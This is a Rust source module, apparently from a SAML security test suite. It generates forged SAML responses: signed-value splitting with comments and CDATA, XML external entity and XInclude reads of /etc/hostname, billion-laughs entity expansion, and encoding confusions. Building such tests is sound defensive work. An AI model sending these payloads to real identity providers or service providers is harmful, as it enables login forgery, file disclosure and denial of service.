//! Texts that two readers read in two ways: by what splits them, by what replaces them, by how they are encoded.

use crate::base::*;
use crate::world::{IDP, SP, assertion, changed, response};

/// What canonicalisation takes away, or what a reader of the first text node stops at.
const SPLITTERS: [(&str, &str); 8] = [
    ("a comment", "<!---->"),
    ("a comment with text", "<!-- x -->"),
    ("a processing instruction", "<?x?>"),
    ("a processing instruction with text", "<?x y?>"),
    ("a CDATA section", "<![CDATA[]]>"),
    ("an element", "<x:x xmlns:x=\"urn:x\"/>"),
    ("an entity", "&e;"),
    ("a NUL", "&#0;"),
];

/// The provider signs a value of which a part is somebody else's; then the value is split so that the part stands alone.
pub(crate) fn split(base: &Base) -> Vec<Attack> {
    let mut attacks = Vec::new();
    for (field, wanted) in [("NameID", VICTIM), ("Audience", SP), ("Issuer", IDP)] {
        for place in Place::ALL {
            let (signed, split): (String, fn(&str, &str) -> String) = match place {
                Place::Before => {
                    (format!("{wanted}.evil.example"), |wanted, by| format!("{wanted}{by}.evil.example"))
                }
                Place::Inside => {
                    (format!("evil.{wanted}.example"), |wanted, by| format!("evil.{by}{wanted}{by}.example"))
                }
                Place::After => {
                    (format!("evil.example.{wanted}"), |wanted, by| format!("evil.example.{by}{wanted}"))
                }
            };
            let honest = if field == "NameID" { PERSON } else { wanted };
            let about = if field == "NameID" { assertion() } else { changed(&assertion(), PERSON, VICTIM) };
            let about =
                changed(&about, &format!(">{honest}</saml:{field}>"), &format!(">{signed}</saml:{field}>"));
            let whole = Base::of(base.profile, &response(&about)).document;
            for (by, splitter) in SPLITTERS {
                let document =
                    changed(&whole, &format!(">{signed}<"), &format!(">{}<", split(wanted, splitter)));
                attacks
                    .push(attack(format!("{field} with {by}, the wanted part {}", place.word()), document));
            }
            let cdata = split(&format!("<![CDATA[{wanted}]]>"), "");
            let document = changed(&whole, &format!(">{signed}<"), &format!(">{cdata}<"));
            attacks
                .push(attack(format!("{field} with the wanted part in CDATA, {}", place.word()), document));
        }
    }
    attacks
}

/// Document types, entities and what else sends a parser away from the document.
pub(crate) fn declarations(base: &Base) -> Vec<Attack> {
    let victim = |text: &str| changed(&base.document, &format!(">{PERSON}<"), &format!(">{text}<"));
    let entity = victim("&v;");
    let laughs: Vec<_> =
        (1..12).map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10))).collect();
    let laughs = laughs.concat();
    let subsets = [
        ("an entity", format!("[<!ENTITY v \"{VICTIM}\">]"), entity.clone()),
        ("an external entity", "[<!ENTITY v SYSTEM \"file:///etc/hostname\">]".to_owned(), entity.clone()),
        ("a remote entity", "[<!ENTITY v SYSTEM \"http://127.0.0.1:1/v\">]".to_owned(), entity.clone()),
        ("a parameter entity", format!("[<!ENTITY % p \"&#60;!ENTITY v '{VICTIM}'>\">%p;]"), entity),
        ("an external subset", "SYSTEM \"http://127.0.0.1:1/d\"".to_owned(), base.document.clone()),
        ("a billion laughs", format!("[<!ENTITY l0 \"lol\">{laughs}]"), victim("&l11;")),
        (
            "a default attribute",
            "[<!ATTLIST saml:NameID Format CDATA \"x\">]".to_owned(),
            base.document.clone(),
        ),
        ("an ID attribute", "[<!ATTLIST saml:Assertion ID ID #IMPLIED>]".to_owned(), base.document.clone()),
        ("a notation", "[<!NOTATION n SYSTEM \"n\">]".to_owned(), base.document.clone()),
        ("nothing", String::new(), base.document.clone()),
    ];
    let mut attacks = Vec::new();
    for (what, subset, document) in subsets {
        let declaration = format!("<!DOCTYPE samlp:Response {subset}>");
        for place in Place::ALL {
            let name = format!("{what} in a document type {} the root", place.word());
            attacks.push(attack(name, place.put(&declaration, &document)));
        }
        let behind = format!("<?xml version=\"1.0\"?>\n<!---->{declaration}{document}");
        attacks.push(attack(format!("{what} in a document type behind a comment"), behind));
    }
    for (what, part) in [
        ("a comment", "<!-- -->"),
        ("a processing instruction", "<?x?>"),
        ("a style sheet", "<?xml-stylesheet href=\"http://127.0.0.1:1/\"?>"),
        ("text", "x"),
        ("another root", "<x/>"),
        ("two declarations", "<?xml version=\"1.0\"?><?xml version=\"1.0\"?>"),
        (
            "an inclusion",
            "<x:include xmlns:x=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/hostname\"/>",
        ),
        ("a closing tag", "</saml:Assertion>"),
        ("an open tag", "<saml:Assertion>"),
    ] {
        for place in Place::ALL {
            attacks
                .push(attack(format!("{what} {} the root", place.word()), place.put(part, &base.document)));
        }
    }
    attacks
}

/// Bytes that are another text in another encoding.
pub(crate) fn encodings(base: &Base) -> Vec<Attack> {
    let document = &base.document;
    let declared = |name: &str| format!("<?xml version=\"1.0\" encoding=\"{name}\"?>{document}");
    let utf_16: Vec<u16> = document.encode_utf16().collect();
    let mut attacks = vec![
        attack(
            "UTF-16, big end first",
            utf_16.iter().flat_map(|unit| unit.to_be_bytes()).collect::<Vec<_>>(),
        ),
        attack(
            "UTF-16, little end first",
            utf_16.iter().flat_map(|unit| unit.to_le_bytes()).collect::<Vec<_>>(),
        ),
        attack(
            "UTF-16 with its mark",
            [&[0xff, 0xfe][..], &utf_16.iter().flat_map(|unit| unit.to_le_bytes()).collect::<Vec<_>>()]
                .concat(),
        ),
        attack("UTF-8 with a mark", [&[0xef, 0xbb, 0xbf][..], document.as_bytes()].concat()),
        attack("XML 1.1", format!("<?xml version=\"1.1\"?>{document}").replace(PERSON, "p-\u{85}1001")),
    ];
    for name in ["UTF-7", "UTF-16", "ISO-8859-1", "US-ASCII", "EBCDIC-CP-US", "x"] {
        attacks.push(attack(format!("declared as {name}"), declared(name)));
    }
    for place in Place::ALL {
        for (what, odd) in [
            ("a NUL", &[0_u8][..]),
            ("an overlong '<'", &[0xc0, 0xbc]),
            ("half a character", &[0xe5, 0x96]),
            ("a surrogate", &[0xed, 0xa0, 0x80]),
        ] {
            let text = document.replacen(PERSON, "\u{1}", 1).into_bytes();
            let at = text.iter().position(|byte| *byte == 1).unwrap();
            let name = match place {
                Place::Before => [odd, PERSON.as_bytes()].concat(),
                Place::Inside => [b"p-", odd, b"1001"].concat(),
                Place::After => [PERSON.as_bytes(), odd].concat(),
            };
            let message = [&text[..at], &name, &text[at + 1..]].concat();
            attacks.push(attack(format!("{what} {} the name", place.word()), message));
        }
    }
    attacks
}
